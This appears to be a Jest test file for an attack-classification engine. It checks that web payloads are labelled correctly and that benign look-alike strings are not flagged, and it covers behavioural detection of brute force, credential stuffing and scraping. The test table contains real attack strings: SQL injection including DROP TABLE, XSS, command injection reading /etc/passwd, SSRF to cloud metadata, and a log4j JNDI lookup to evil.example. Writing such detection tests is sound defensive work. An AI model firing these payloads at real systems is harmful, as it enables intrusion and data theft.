import { describe, expect, test } from '@jest/globals';
import { PatternBehaviorAnalyzer } from '../../behavior/analyzer.ts';
import { eventOf, requestDocument } from '../../events/testing.ts';
import { emptyInspection, Inspector } from '../../inspection/inspect.ts';
import { ATTACKS, nameAttack } from './registry.ts';

type Fields = Parameters<typeof requestDocument>[0];
const START = Date.UTC(2026, 2, 2, 10);

/** What the last of a row of requests is named. */
function named(requests: readonly Fields[]) {
  const analyzer = new PatternBehaviorAnalyzer();
  let result: ReturnType<typeof nameAttack>;
  for (const fields of requests) {
    const event = eventOf(requestDocument(fields));
    const inspection = new Inspector().inspect(event, emptyInspection());
    result = nameAttack({ event, inspection, behavior: analyzer.observe(event, true) });
  }
  return result;
}

const times = (count: number, make: (i: number) => Fields): Fields[] =>
  Array.from({ length: count }, (_, i) => ({ time: START + i * 1000, ...make(i) }));
const login = (account: string, status: number): Fields => ({
  method: 'POST',
  path: '/login',
  status,
  body: JSON.stringify({ username: account, password: 'p' }),
});

describe('what a request says', () => {
  const requests: [string, string, string][] = [
    ["' OR 1=1--", 'sql_injection', 'boolean_blind'],
    ['1 UNION SELECT username, password FROM users', 'sql_injection', 'union'],
    ["1'; DROP TABLE users--", 'sql_injection', 'stacked'],
    ["1' AND SLEEP(5)#", 'sql_injection', 'time_based'],
    ["1' AND extractvalue(1,concat(0x7e,version()))-- -", 'sql_injection', 'error_based'],
    ['<script>alert(1)</script>', 'xss', 'script'],
    ['<img src=x onerror=alert(1)>', 'xss', 'event_handler'],
    ['javascript:alert(document.cookie)', 'xss', 'javascript_url'],
    ['../../../../etc/passwd', 'injection', 'path_traversal'],
    ['8.8.8.8; cat /etc/passwd', 'injection', 'command'],
    ['{{7*7}}', 'injection', 'template'],
    ['${jndi:ldap://evil.example/a}', 'injection', 'log4j'],
    ['http://169.254.169.254/latest/meta-data/', 'injection', 'ssrf'],
    ['*)(uid=*))(|(uid=*', 'injection', 'ldap'],
  ];
  test.each(requests)('%s is %s, %s', (value, type, subtype) => {
    const result = named([{ path: '/search', query: `q=${encodeURIComponent(value)}` }]);
    expect(result).toMatchObject({ type, attack: { subtype } });
    expect(result?.attack.confidence).toBeGreaterThan(0.7);
    expect(result?.attack.evidence[0]).toMatchObject({ field: 'url.query', start: 2 });
    expect(result?.attack.reason).toContain('url.query (q)');
  });

  const harmless = [
    "O'Brien",
    "rock 'n' roll",
    'please select a plan from the list and order by phone',
    '<p>Hello <b>you</b></p>',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUg',
    'AT&T',
    'Tom & Jerry; the movie',
    'C:\\Users\\kim\\report.txt',
    '1 + 1 = 2',
    'Hello {{ name }}',
    "status eq 'open' and total gt 5",
    'https://shop.example/a?b=c&d=e',
  ];
  test.each(harmless)('%s is not named', (value) => {
    expect(named([{ path: '/search', query: `q=${encodeURIComponent(value)}` }])?.attack.confidence ?? 0).toBeLessThan(
      0.5,
    );
  });
});

describe('what a source does', () => {
  test('many accounts, a password each, is credential stuffing', () => {
    const result = named(times(30, (i) => login(`user-${i}`, 401)));
    expect(result).toMatchObject({ type: 'credential_stuffing', attack: { subtype: 'volume', mitre: ['T1110.004'] } });
    expect(result?.attack.reason).toMatch(/failed to log in for about \d+ accounts/);
  });

  test('one account, many passwords, is brute force', () => {
    const result = named(times(25, () => login('kim', 401)));
    expect(result).toMatchObject({ type: 'brute_force', attack: { subtype: 'repeated_logins' } });
    expect(result?.attack.reason).toContain('failed 25 times within 10 minutes');
  });

  test('one account from many sources is brute force too', () => {
    const result = named(times(25, (i) => ({ ...login('kim', 401), source: `203.0.113.${i}` })));
    expect(result).toMatchObject({ type: 'brute_force', attack: { subtype: 'distributed' } });
  });

  test('numbers walked one after the other are scraping', () => {
    expect(named(times(70, (i) => ({ path: `/products/${i}` })))).toMatchObject({
      type: 'scraping',
      attack: { subtype: 'sequential' },
    });
  });

  test('paths that are not there, one after the other, are enumeration', () => {
    expect(
      named(
        times(50, (i) => ({ path: `/x${'abcdefghij'[i % 10]}/y${'klmnopqrst'[Math.floor(i / 10)]}`, status: 404 })),
      ),
    ).toMatchObject({ type: 'api_abuse', attack: { subtype: 'endpoint_enumeration' } });
  });

  test('going on through 429 is abuse of the rate limit', () => {
    expect(named(times(60, () => ({ path: '/p', status: 429 })))).toMatchObject({
      type: 'api_abuse',
      attack: { subtype: 'rate_limit' },
    });
  });

  test('a forgotten password is not named', () => {
    expect(named(times(4, () => login('kim', 401)))?.attack.confidence ?? 0).toBeLessThan(0.5);
  });

  test('staff behind one address who sign in are not named', () => {
    expect(named(times(60, (i) => login(`user-${i}`, i % 20 === 0 ? 401 : 200)))?.attack.confidence ?? 0).toBeLessThan(
      0.5,
    );
  });
});

test('every attack type stands in the registry once', () => {
  expect(new Set(ATTACKS.map(({ type }) => type)).size).toBe(7);
});
